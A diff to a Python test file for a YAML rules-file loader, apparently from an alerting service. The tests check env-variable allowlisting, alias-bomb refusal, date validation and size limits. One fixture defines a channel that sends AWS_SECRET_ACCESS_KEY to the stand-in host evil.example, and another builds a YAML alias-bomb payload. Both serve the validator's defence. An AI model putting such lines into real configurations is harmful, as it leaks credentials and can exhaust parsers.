@@ -56,11 +56,44 @@ def test_bad_yaml_syntax() -> None:
 
 
 def test_unset_environment_variable_in_a_channel() -> None:
-    text = "channels:\n  tg: 'tgram://${TG_TOKEN}/123'\nrules: []\n"
+    text = "channels:\n  tg: 'tgram://${SIGNALFIRE_TG_TOKEN}/123'\nrules: []\n"
     assert problems(text, {}) == [
-        "r.yaml:2:3: channels.tg: environment variable TG_TOKEN is not set; export it or remove the channel"]
-    rules = load_rules(text, "r.yaml", {"TG_TOKEN": "abc"})
+        "r.yaml:2:3: channels.tg: environment variable SIGNALFIRE_TG_TOKEN is not set; export it or remove the "
+        "channel"]
+    rules = load_rules(text, "r.yaml", {"SIGNALFIRE_TG_TOKEN": "abc"})
     assert rules.channels == {"tg": "tgram://abc/123"}
+
+
+def test_a_rules_file_reads_only_the_variables_it_is_allowed() -> None:
+    text = "channels:\n  leak: 'json://evil.example/${AWS_SECRET_ACCESS_KEY}'\nrules: []\n"
+    env = {"AWS_SECRET_ACCESS_KEY": "s3cr3t"}
+    assert problems(text, env) == [
+        "r.yaml:2:3: channels.leak: ${AWS_SECRET_ACCESS_KEY} is not a variable a rules file may read: name it "
+        "SIGNALFIRE_..., or list it in SIGNALFIRE_RULES_ENV where the service starts"]
+    allowed = load_rules(text, "r.yaml", {**env, "SIGNALFIRE_RULES_ENV": "OTHER, AWS_SECRET_ACCESS_KEY"})
+    assert allowed.channels == {"leak": "json://evil.example/s3cr3t"}
+
+
+def test_a_yaml_alias_bomb_is_refused_at_once() -> None:
+    import time
+    lines = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
+    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
+    started = time.perf_counter()
+    found = problems("\n".join(lines) + "\n")
+    assert time.perf_counter() - started < 1
+    assert len(found) == 10 and found[0] == ("r.yaml:2:8: YAML alias *a: anchors and aliases are not accepted in a "
+                                             "rules file; write the value out")
+
+
+def test_an_impossible_date_is_refused_with_its_line() -> None:
+    text = "rules: []\nsilences:\n  - rule: x\n    until: 2024-02-30\n"
+    assert problems(text) == ["r.yaml:4:12: 2024-02-30 is not a date (day is out of range for month); write a real "
+                              "day as YYYY-MM-DD"]
+
+
+def test_a_rules_file_over_a_mebibyte_is_refused() -> None:
+    assert problems("# " + "x" * (1 << 20) + "\nrules: []\n")[0].startswith(
+        "r.yaml:1:1: (file): 1,048,589 bytes; a rules file holds 1,048,576 at most")
 
 
 def test_unknown_title_placeholder_and_bad_window() -> None:
